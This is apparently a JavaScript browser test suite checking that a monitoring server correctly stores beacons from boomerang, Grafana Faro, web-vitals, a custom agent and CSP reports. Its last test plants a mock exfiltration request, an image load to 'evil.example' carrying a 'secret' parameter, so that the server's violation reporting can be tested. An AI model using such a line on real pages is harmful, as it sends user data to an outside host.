/*
 * Goal: a page with another agent, pointed at the server, lands in the same
 * tables: boomerang, Grafana Faro, web-vitals, a plain agent, CSP reports.
 * Method: the real packages in real Chromium on pages of one origin, beacons to
 * the real server on another; what the page did is compared with SQL.
 */
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, beforeEach, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { serve, until } from '../serve.mjs';
import { openBrowser, watch } from './browser.mjs';
import { painted, shown, Site } from './site.mjs';

const WAIT_MS = 60000;
const WORK_MS = 120;
const packaged = (file) => readFile(fileURLToPath(new URL(`../../node_modules/${file}`, import.meta.url)), 'utf8');

const TRUTH = `
const truth = { lcp: 0, inp: 0 };
const see = (type, each, more) =>
	new PerformanceObserver((list) => list.getEntries().forEach(each)).observe({ type, buffered: true, ...more });
see('largest-contentful-paint', (e) => (truth.lcp = e.startTime));
see('event', (e) => e.interactionId && (truth.inp = Math.max(truth.inp, e.duration)), { durationThreshold: 16 });
addEventListener('click', (e) => {
	if (e.target.id === 'work') for (const end = performance.now() + ${WORK_MS}; performance.now() < end; );
	if (e.target.id === 'work') e.target.textContent += '.';
	if (e.target.id === 'error') throw new TypeError('the shop is shut');
});
`;

const site = new Site();
let data;
let server;
let browser;
let page;
let seen;
let origin; // by name: the client's address would be taken out of texts

before(async () => {
	data = await mkdtemp(join(tmpdir(), 'drum-agents-'));
	server = await serve(data);
	await site.open();
	origin = site.origin.replace('127.0.0.1', 'localhost');
	browser = await openBrowser();
});

after(async () => {
	await browser?.close();
	site.close();
	await server?.end();
	await rm(data, { recursive: true, force: true });
});

beforeEach(async () => {
	await page?.close();
	site.clear();
	site.pages.set('/truth.js', TRUTH);
	page = await browser.context.newPage();
	seen = watch(page);
});

/** Opens a page with `scripts`, URLs or code, and waits until it is painted. */
async function visit(scripts, csp = "default-src * 'unsafe-inline' 'unsafe-eval'") {
	const tags = scripts.map((s) => (s.startsWith('/') ? `<script src="${s}"></script>` : `<script>${s}</script>`));
	site.pages.set('/page', {
		csp,
		body: `<!doctype html><title>x</title><script src="/truth.js"></script>${tags.join('')}
			<h1 style="font-size: 60px">words</h1><button id="work">work</button><button id="error">error</button>
			<script async src="/late.js?delay=1500"></script>`,
	});
	site.pages.set('/late.js', ''); // so that the paint comes before the load
	await page.goto(`${origin}/page`);
	await shown(page);
	await until('LCP', () => page.evaluate(() => truth.lcp > 0));
}

async function interact() {
	await page.click('#work');
	await until('the interaction', () => page.evaluate((ms) => truth.inp >= ms, WORK_MS));
	await page.click('#error');
	await until('the error', () => seen.exceptions.length === 1);
	await painted(page);
	return page.evaluate(() => ({ ...truth }));
}

const leave = () => page.goto(`${origin}/empty`);

const select = async (sql) =>
	(await server.query(`${sql} FORMAT JSONEachRow`)).split('\n').filter(Boolean).map((line) => JSON.parse(line));

/** Rows of `sql` once there are some and all pass `good`. */
const rowsOf = (sql, good = () => true) =>
	until(
		`rows of ${sql}`,
		async () => {
			const rows = await select(sql);
			return rows.length > 0 && rows.every(good) && rows;
		},
		WAIT_MS,
	);

const near = (what, got, expected) =>
	assert.ok(got !== null && Math.abs(got - expected) <= Math.max(16, expected * 0.05), `${what}: ${got}, in the page ${expected}`);

const quiet = () => assert.deepEqual(seen.complaints, []);

test('boomerang', async () => {
	const plugins = ['compression', 'rt', 'navtiming', 'painttiming', 'eventtiming', 'continuity', 'mobile', 'memory', 'errors'];
	const parts = await Promise.all(['boomerang.js', ...plugins.map((p) => `plugins/${p}.js`)].map((file) => packaged(`boomerangjs/${file}`)));
	site.pages.set('/boomerang.js', parts.join('\n;\n'));
	await visit(['/boomerang.js', `BOOMR.init({ beacon_url: '${server.url}/boomerang?site=boom', Errors: { enabled: true, sendAfterOnload: true } })`]);
	const [first] = await rowsOf("SELECT * FROM pageviews WHERE site = 'boom'");
	const real = await interact();
	await leave();
	const [row, ...others] = await rowsOf("SELECT * FROM pageviews WHERE site = 'boom'", (r) => r.error_count > 0 && r.inp !== null);
	assert.deepEqual(others, []);
	near('LCP', row.lcp, real.lcp);
	near('INP', row.inp, real.inp);
	assert.ok(row.ttfb > 0 && row.load >= row.dom_interactive && row.dom_interactive > 0);
	assert.deepEqual([row.host, row.path, row.nav_type, row.protocol], ['localhost', '/page', 'navigate', 'http/1.1']);
	assert.equal(row.view_id, first.view_id);
	const [error] = await rowsOf("SELECT kind, type, message, line, stack FROM errors WHERE site = 'boom'");
	assert.deepEqual([error.kind, error.type], ['error', 'TypeError']);
	assert.match(error.message, /the shop is shut/);
	assert.match(error.stack, /truth\.js/);
	quiet();
});

test('Grafana Faro', async () => {
	site.pages.set('/faro.js', await packaged('@grafana/faro-web-sdk/dist/bundle/faro-web-sdk.iife.js'));
	const start = `GrafanaFaroWebSdk.initializeFaro({ url: '${server.url}/faro?site=faro',
		app: { name: 'shop', version: '1.4.2', environment: 'test' }, webVitalsInstrumentation: { reportAllChanges: true } });
		GrafanaFaroWebSdk.faro.api.pushEvent('signup', { plan: 'pro' });`;
	await visit(['/faro.js', start]);
	const real = await interact();
	await leave();
	const rows = await rowsOf("SELECT * FROM pageviews WHERE site = 'faro'", (r) => r.inp !== null && r.lcp !== null && r.error_count > 0);
	assert.equal(rows.length, 1);
	near('LCP', rows[0].lcp, real.lcp);
	near('INP', rows[0].inp, real.inp);
	assert.deepEqual([rows[0].release, rows[0].environment, rows[0].path, rows[0].inp_target], ['1.4.2', 'test', '/page', '#work']);
	assert.ok(rows[0].ttfb > 0 && rows[0].session_id > 0);
	const [error] = await rowsOf("SELECT kind, type, message, source, line, stack FROM errors WHERE site = 'faro'");
	assert.deepEqual([error.type, error.message, error.source], ['TypeError', 'the shop is shut', `${origin}/truth.js`]);
	assert.ok(error.line > 1 && /truth\.js:\d+/.test(error.stack));
	await rowsOf("SELECT name, text FROM events WHERE site = 'faro' AND name = 'signup'", (r) => r.text === '{"plan":"pro"}');
	quiet();
});

for (const [how, code] of [
	['one by one', 'const send = (metric) => navigator.sendBeacon(url, JSON.stringify(metric))'],
	[
		'in a queue',
		`const queue = new Set(); const send = (metric) => queue.add(metric);
		addEventListener('visibilitychange', () => {
			if (document.visibilityState === 'hidden' && queue.size) { navigator.sendBeacon(url, JSON.stringify([...queue])); queue.clear(); }
		});`,
	],
]) {
	test(`web-vitals, ${how}`, async () => {
		const key = how.replaceAll(' ', '-');
		site.pages.set('/vitals.js', await packaged('web-vitals/dist/web-vitals.attribution.iife.js'));
		await visit([
			'/vitals.js',
			`const url = '${server.url}/beacon?site=${key}'; ${code};
			for (const name of ['onLCP', 'onINP', 'onCLS', 'onFCP', 'onTTFB']) webVitals[name](send);`,
		]);
		const real = await interact();
		await leave();
		await rowsOf(`SELECT inp, lcp, cls FROM pageviews WHERE site = '${key}'`, (r) => r.inp !== null && r.lcp !== null && r.cls !== null);
		/* The page again is another view. */
		await visit(['/vitals.js', `const url = '${server.url}/beacon?site=${key}'; ${code}; webVitals.onLCP(send);`]);
		await leave();
		const rows = await until('both views', async () => {
			const found = await select(`SELECT * FROM pageviews WHERE site = '${key}' ORDER BY ts`);
			return found.length === 2 && found;
		}, WAIT_MS);
		near('LCP', rows[0].lcp, real.lcp);
		near('INP', rows[0].inp, real.inp);
		assert.ok(rows[0].fcp > 0 && rows[0].ttfb > 0 && rows[0].cls === 0);
		assert.deepEqual([rows[0].lcp_element, rows[0].inp_target, rows[0].nav_type], ['html>body>h1', '#work', 'navigate']);
		assert.deepEqual([rows[1].inp, rows[1].cls], [null, null]);
	});
}

test('a plain agent', async () => {
	const agent = `
		const sessionId = Math.random().toString(36).slice(2);
		const send = (path, body) => navigator.sendBeacon('${server.url}/rum/' + path + '?site=plain',
			new Blob([JSON.stringify({ ...body, sessionId, timestamp: Date.now(), url: location.href })], { type: 'application/json' }));
		addEventListener('load', () => setTimeout(() => {
			const t = performance.getEntriesByType('navigation')[0];
			send('metrics', { ttfb: t.responseStart, totalLoadTime: t.loadEventEnd, lcp: truth.lcp, cls: Promise.resolve(1), fid: null,
				connection: { effectiveType: '4g', rtt: 50 }, viewport: innerWidth + 'x' + innerHeight, referrer: '', userAgent: navigator.userAgent });
		}, 300));
		addEventListener('error', (e) => send('errors', { type: 'javascript_error', message: e.message, filename: e.filename, line: e.lineno, column: e.colno, stack: e.error.stack }));
		addEventListener('click', (e) => send('interactions', { type: 'click', element: e.target.tagName, id: e.target.id, text: e.target.textContent }));
		send('heartbeat', { timeOnPage: 0 });
		send('business-metrics', { type: 'checkout_complete', orderId: 'A-17', amount: 99.5 });`;
	await visit([agent]);
	const real = await interact();
	await leave();
	const rows = await rowsOf("SELECT * FROM pageviews WHERE site = 'plain'", (r) => r.lcp !== null && r.error_count > 0);
	assert.equal(rows.length, 1);
	near('LCP', rows[0].lcp, real.lcp);
	assert.deepEqual([rows[0].path, rows[0].cls, rows[0].connection, rows[0].rtt], ['/page', null, '4g', 50]);
	assert.ok(rows[0].viewport_width > 0 && rows[0].load > 0);
	const events = await until('the events', async () => {
		const found = await select("SELECT category, name, target, value FROM events WHERE site = 'plain' ORDER BY category, target");
		return found.length === 4 && found;
	}, WAIT_MS);
	assert.deepEqual(events.map((e) => `${e.category} ${e.name} ${e.target} ${e.value}`), [
		'business checkout_complete  99.5',
		'heartbeat heartbeat  0',
		'interaction click error null',
		'interaction click work null',
	]);
	const [error] = await select("SELECT message, source, stack FROM errors WHERE site = 'plain'");
	assert.match(error.message, /the shop is shut/);
	assert.match(error.stack, /truth\.js/);
});

test('CSP reports', async () => {
	await visit(
		["document.body || addEventListener('load', () => { new Image().src = 'https://evil.example/pixel?secret=1' })"],
		`default-src 'self' 'unsafe-inline'; img-src 'self'; report-uri ${server.url}/reports?site=csp`,
	);
	const [report] = await rowsOf("SELECT type, host, url, body, view_id FROM reports WHERE site = 'csp'");
	assert.deepEqual([report.type, report.host, report.url], ['csp-violation', 'localhost', `${origin}/page`]);
	const body = JSON.parse(report.body);
	assert.match(body['blocked-uri'], /^https:\/\/evil\.example/);
	assert.ok(!report.body.includes('secret'));
	assert.match(body['violated-directive'], /img-src/);
});
